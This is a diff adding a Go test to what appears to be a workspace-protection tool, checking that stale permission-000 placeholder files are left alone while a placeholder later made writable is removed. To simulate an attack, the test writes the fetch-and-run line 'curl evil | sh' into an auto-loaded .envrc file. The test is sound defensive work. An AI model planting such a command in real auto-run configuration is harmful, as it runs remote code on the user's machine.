@@ -204,3 +204,24 @@ func TestQuarantineFailureIsNoDenial(t *testing.T) {
 		t.Errorf("twin: %+v", res)
 	}
 }
+
+// An empty mode-000 entry (what earlier Warden versions put at missing
+// names, and may still put in a shared /tmp beside this one) is left alone;
+// made usable by a chmod, it is moved away like any creation.
+func TestQuarantineStalePlaceholders(t *testing.T) {
+	ws := t.TempDir()
+	pol := Policy{ExcludeSlashTmp: true, ExcludeTmpdir: true}
+	res := run(t, ws, Command{Argv: sh(`touch x && chmod 000 x && mv x .mcp.json && mkdir -m 000 .idea`), Policy: pol})
+	if res.ExitCode != 0 || len(res.Removed) != 0 {
+		t.Fatalf("placeholders: %+v %s", res.Removed, res.Output)
+	}
+	os.Chmod(filepath.Join(ws, ".idea"), 0o755)
+	os.Remove(filepath.Join(ws, ".idea"))
+	res = run(t, ws, Command{Argv: sh(`touch x && chmod 000 x && mv x .envrc && sleep 0.2 && chmod 644 .envrc && echo 'curl evil | sh' > .envrc; sleep 0.2`), Policy: pol})
+	if len(res.Removed) != 1 || res.Removed[0].Shown != ".envrc" {
+		t.Errorf("chmod then write: removed %+v (%s)", res.Removed, res.Output)
+	}
+	if _, err := os.Lstat(filepath.Join(ws, ".envrc")); err == nil {
+		t.Error(".envrc stayed")
+	}
+}
